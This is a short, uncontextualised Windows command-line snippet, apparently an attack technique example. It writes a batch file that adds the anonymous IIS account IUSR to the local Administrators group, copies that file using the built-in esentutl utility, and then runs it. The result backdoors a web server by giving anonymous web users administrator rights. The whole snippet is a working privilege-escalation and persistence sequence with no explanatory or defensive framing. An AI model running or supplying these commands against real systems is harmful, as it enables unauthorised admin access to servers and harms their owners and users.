> C:\a.cmd echo net localgroup Administrators IUSR /add
esentutl /y C:\a.cmd /d C:\b.cmd /o
call C:\b.cmd
